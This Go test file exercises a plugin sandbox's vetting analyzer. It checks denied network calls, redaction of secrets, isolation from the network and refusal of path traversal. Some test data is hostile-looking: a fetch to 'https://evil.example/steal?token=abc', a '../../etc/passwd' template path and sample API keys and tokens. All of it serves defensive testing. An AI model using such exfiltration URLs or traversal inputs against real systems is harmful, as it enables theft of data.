package behaviour

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"gatehouse.dev/gatehouse/sandbox/scenario"
	"gatehouse.dev/gatehouse/vet"
	"gatehouse.dev/gatehouse/vet/internal/plugintest"
)

// runnerScenarios are the example plugins' documented scenarios, in the
// format sandbox/scenario reads today, as far as it can express them (it
// cannot seed or check the key-value store, match a fetch's body, or
// check an error's text, only its kind).
var runnerScenarios = map[string]string{
	"notifier": `[
	  {"name": "posts the message as JSON and reports the delivery", "export": "notify",
	   "input": {"channel": "#ops", "text": "Deploy 42 finished", "level": "info"},
	   "fetch": {"POST https://hooks.example.com/v1/messages": {"status": 202, "body": "{\"id\": \"msg_7\"}"}},
	   "expected": {"delivered": true, "status": 202, "id": "msg_7"}},
	  {"name": "a failing hook service is an error", "export": "notify",
	   "input": {"channel": "ops", "text": "Disk almost full", "level": "warning"},
	   "fetch": {"POST https://hooks.example.com/v1/messages": {"status": 503, "body": "maintenance"}},
	   "expectedError": "plugin_error"},
	  {"name": "an unknown level is refused before anything is sent", "export": "notify",
	   "input": {"channel": "ops", "text": "hi", "level": "loud"}, "expectedError": "plugin_error"}
	]`,
	"templater": `[
	  {"name": "renders the welcome template", "export": "render",
	   "input": {"template": "welcome.txt", "data": {"name": "Ada", "team": "Platform", "tasks": ["Read the handbook", "Meet your buddy"]}},
	   "expected": {"text": "Hello Ada,\n\nWelcome to Platform! Your first tasks:\n- Read the handbook\n- Meet your buddy\n\nSee you soon.\n"}},
	  {"name": "a template that does not exist is an error", "export": "render",
	   "input": {"template": "goodbye.txt", "data": {}}, "expectedError": "plugin_error"},
	  {"name": "a path out of the templates folder is refused", "export": "render",
	   "input": {"template": "../../etc/passwd", "data": {}}, "expectedError": "plugin_error"}
	]`,
	"counter": `[
	  {"name": "reads a counter that does not exist as zero", "export": "get",
	   "input": {"name": "signups"}, "expected": {"name": "signups", "value": 0}},
	  {"name": "a step of zero is refused", "export": "increment",
	   "input": {"name": "visits", "by": 0}, "expectedError": "plugin_error"}
	]`,
}

func TestExamplesPass(t *testing.T) {
	a := newAnalyzer(t)
	for _, name := range []string{"counter", "notifier", "templater"} {
		t.Run(name, func(t *testing.T) {
			in := examplePackage(t, name, map[string]string{"runner.json": runnerScenarios[name]})
			rep, d := analyze(t, a, in)
			list, err := scenario.Parse([]byte(runnerScenarios[name]))
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Findings) != 0 || d.Passed != len(list) || d.Failed != 0 {
				t.Errorf("passed %d of %d; findings: %s\ndetail: %+v", d.Passed, len(list), messages(rep.Findings), d.Scenarios)
			}
			for _, r := range d.Scenarios {
				if r.Duration <= 0 || r.HostCalls == nil {
					t.Errorf("%s: no duration or host calls recorded: %+v", r.Name, r)
				}
			}
			if name == "templater" && d.Mounts["/templates"] != "templates" {
				t.Errorf("mounts %v: /templates should be the package's templates folder", d.Mounts)
			}
			if name == "notifier" {
				r := d.Scenarios[0]
				if len(r.HostCalls) != 1 || r.HostCalls[0].Function != "http_fetch" || r.HostCalls[0].Target != "https://hooks.example.com/v1/messages" {
					t.Errorf("host calls of %q: %+v", r.Name, r.HostCalls)
				}
			}
		})
	}
}

// TestExamplesOwnScenarios runs each example with the tests/*.json it
// ships, written in the format examples/README.md documents. Until
// sandbox/scenario reads that format the analyzer reports each file as a
// scenario error; the test then says so and stops, and it runs in full as
// soon as the runner reads the documented format.
func TestExamplesOwnScenarios(t *testing.T) {
	a := newAnalyzer(t)
	for _, name := range []string{"counter", "notifier", "templater"} {
		t.Run(name, func(t *testing.T) {
			in := examplePackage(t, name, nil)
			rep, d := analyze(t, a, in)
			for _, file := range d.Files {
				data, _ := in.Package.File(file)
				if _, err := scenario.Parse(data); err != nil {
					errs := byRule(rep.Findings, RuleScenarioError)
					if len(errs) == 0 || errs[0].Location.File != file {
						t.Fatalf("%s does not parse (%v) and no scenario error says so: %s", file, err, messages(rep.Findings))
					}
					t.Skipf("sandbox/scenario does not read the documented scenario format yet: %s: %v", file, err)
				}
			}
			if len(rep.Findings) != 0 || d.Failed != 0 || d.Passed == 0 {
				t.Errorf("passed %d, failed %d; findings: %s", d.Passed, d.Failed, messages(rep.Findings))
			}
		})
	}
}

func TestUnexpectedOutput(t *testing.T) {
	tests := `[
	  {"name": "renders the welcome template", "export": "render",
	   "input": {"template": "welcome.txt", "data": {"name": "Ada", "team": "Platform", "tasks": []}},
	   "expected": {"text": "Bonjour Ada"}}
	]`
	in := examplePackage(t, "templater", map[string]string{"wrong.json": tests})
	rep, d := analyze(t, newAnalyzer(t), in)
	fs := byRule(rep.Findings, RuleUnexpectedOutput)
	if len(fs) != 1 || len(rep.Findings) != 1 {
		t.Fatalf("want one unexpected-output finding: %s", messages(rep.Findings))
	}
	f := fs[0]
	if f.Severity != vet.Medium || f.Location.File != "tests/wrong.json" || f.Location.Line != 2 ||
		!strings.Contains(f.Message, "Bonjour Ada") || !strings.Contains(f.Message, "Hello Ada") {
		t.Errorf("finding %+v: want expected and got in the message, at tests/wrong.json:2", f)
	}
	if d.Failed != 1 || d.Scenarios[0].Passed {
		t.Errorf("detail %+v", d)
	}
}

func TestDeniedCall(t *testing.T) {
	tests := `[{"name": "fetches from an origin it was not granted", "export": "fetch",
	  "input": {"url": "https://evil.example/steal?token=abc"},
	  "fetch": {"GET https://evil.example/steal?token=abc": {"body": "never served"}},
	  "expected": {"status": 200, "body": "never served"}}]`
	rep, d := analyze(t, newAnalyzer(t), probePackage(t, "", map[string]string{"denied.json": tests}))
	fs := byRule(rep.Findings, RuleDeniedCall)
	if len(fs) != 1 {
		t.Fatalf("want one denied-call finding: %s", messages(rep.Findings))
	}
	f := fs[0]
	if f.Severity != vet.High || f.Properties["function"] != "http_fetch" || !strings.Contains(f.Message, "https://evil.example/steal") || f.Location.File != "tests/denied.json" {
		t.Errorf("finding %+v", f)
	}
	if d.Scenarios[0].Denied != 1 || d.Scenarios[0].Passed {
		t.Errorf("detail %+v", d.Scenarios[0])
	}
}

func TestLimitBreach(t *testing.T) {
	tests := `[
	  {"name": "spins", "export": "spin", "input": {}},
	  {"name": "grows", "export": "grow", "input": {}}
	]`
	rep, _ := analyze(t, newAnalyzer(t), probePackage(t, "", map[string]string{"limits.json": tests}))
	kinds := map[string]bool{}
	for _, f := range byRule(rep.Findings, RuleLimitBreach) {
		if f.Severity != vet.High {
			t.Errorf("severity %s: %s", f.Severity, f.Message)
		}
		kinds[f.Properties["scenario"].(string)+"/"+f.Properties["errorKind"].(string)] = true
	}
	if !kinds["spins/timeout"] || !kinds["grows/out_of_memory"] {
		t.Errorf("limit breaches %v; findings: %s", kinds, messages(rep.Findings))
	}
}

// TestNeverReachesTheNetwork grants the origin of a real local server and
// fetches from it with no fake: the plugin must see a failure and the
// server no request.
func TestNeverReachesTheNetwork(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "served")
	}))
	defer srv.Close()
	man := strings.Replace(string(plugintest.Source(t, "behaviourprobe", "manifest.json")), "https://api.example.com", srv.URL, 1)
	tests := fmt.Sprintf(`[{"name": "fetch with no fake", "export": "fetch", "input": {"url": %q}, "expected": {"status": 200, "body": "served"}}]`, srv.URL+"/x")
	rep, d := analyze(t, newAnalyzer(t), probePackage(t, man, map[string]string{"net.json": tests}))
	if hits.Load() != 0 {
		t.Fatalf("the server was reached %d times", hits.Load())
	}
	if len(d.Scenarios) != 1 || d.Scenarios[0].Passed || len(d.Scenarios[0].Unfaked) != 1 {
		t.Errorf("detail %+v", d.Scenarios)
	}
	if fs := byRule(rep.Findings, RuleUnexpectedOutput); len(fs) != 1 || !strings.Contains(fs[0].Message, "without a fake") {
		t.Errorf("findings: %s", messages(rep.Findings))
	}
}

func TestScenarioErrors(t *testing.T) {
	tests := map[string]string{
		"broken.json":  `[{"name": "typo", "export": "fetch", "input": {}, "expcted": {}}]`,
		"missing.json": `[{"name": "calls an export that does not exist", "export": "nope", "input": {}}]`,
	}
	rep, _ := analyze(t, newAnalyzer(t), probePackage(t, "", tests))
	files := map[string]bool{}
	for _, f := range byRule(rep.Findings, RuleScenarioError) {
		files[f.Location.File] = true
	}
	if !files["tests/broken.json"] || !files["tests/missing.json"] {
		t.Errorf("scenario errors in %v; findings: %s", files, messages(rep.Findings))
	}
}

func TestSkipped(t *testing.T) {
	in := probePackage(t, "", nil)
	_, err := newAnalyzer(t).Analyze(context.Background(), in)
	if !errors.Is(err, vet.ErrSkipped) || !strings.Contains(err.Error(), "no test scenarios") {
		t.Errorf("err = %v, want skipped: no test scenarios", err)
	}
	in.Manifest = nil
	if _, err := newAnalyzer(t).Analyze(context.Background(), in); !errors.Is(err, vet.ErrSkipped) {
		t.Errorf("no manifest: err = %v, want skipped", err)
	}
}

// TestFindingsFromOutcome checks the mapping from a scenario's outcome to
// findings for what a real module cannot easily be made to do on demand,
// such as differing between two runs.
func TestFindingsFromOutcome(t *testing.T) {
	r := &report{}
	s := scenario.Scenario{Name: "n", Export: "e"}
	r.scenario(s, outcome{Run: Run{File: "tests/a.json"}, nondeterministic: true, difference: "the outputs differ: 1 and 2"}, vet.Location{File: "tests/a.json", Line: 3})
	if len(r.findings) != 1 || r.findings[0].RuleID != RuleNondeterministic || r.findings[0].Severity != vet.Low || !strings.Contains(r.findings[0].Message, "1 and 2") {
		t.Errorf("findings %+v", r.findings)
	}
}

func TestSecretsNotEchoed(t *testing.T) {
	key := "sk_live_" + strings.Repeat("4eC39HqLyjWDarjtT1zdp7dc", 1)
	r := &report{}
	s := scenario.Scenario{Name: "n", Export: "e", Expected: json.RawMessage(`{"ok":true}`)}
	r.scenario(s, outcome{Run: Run{File: "tests/a.json"}, mismatch: `output {"key":"` + key + `"} differs from the expected {"ok":true}`}, vet.Location{})
	b, _ := json.Marshal(r.findings)
	if len(r.findings) != 1 || strings.Contains(string(b), key[4:]) {
		t.Errorf("the finding echoes the key: %s", b)
	}
	for in, want := range map[string]string{
		"see /templates/welcome2024/report.txt and 12345678901234567890123": "see /templates/welcome2024/report.txt and 12345678901234567890123",
		"GET https://hooks2.example.com/v1/messages":                        "GET https://hooks2.example.com/v1/messages",
		"key=AKIAQYLPMN5HHHFPZAM2":                                          "key=…",
		"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlMTIz":      "Bearer eyJh…",
	} {
		if got := redact(in); got != want {
			t.Errorf("redact(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestMountsAreThePackagesOwn: a mount resolves to the package's folder
// of that name, copied out, never to a host path.
func TestMountsAreThePackagesOwn(t *testing.T) {
	in := examplePackage(t, "templater", map[string]string{"t.json": `[]`})
	tmp := t.TempDir()
	host, shown, err := mounts(tmp, in)
	if err != nil {
		t.Fatal(err)
	}
	dir := host["/templates"]
	if !strings.HasPrefix(dir, tmp) || shown["/templates"] != "templates" {
		t.Fatalf("mount %q (%v)", dir, shown)
	}
	got, err := os.ReadFile(filepath.Join(dir, "welcome.txt"))
	want, _ := in.Package.File("templates/welcome.txt")
	if err != nil || string(got) != string(want) {
		t.Errorf("welcome.txt in the mount: %q, %v", got, err)
	}
	if fi, err := os.Stat(filepath.Join(dir, "welcome.txt")); err != nil || fi.Mode().Perm()&0o222 != 0 {
		t.Errorf("mounted file is writable: %v %v", fi.Mode(), err)
	}
}
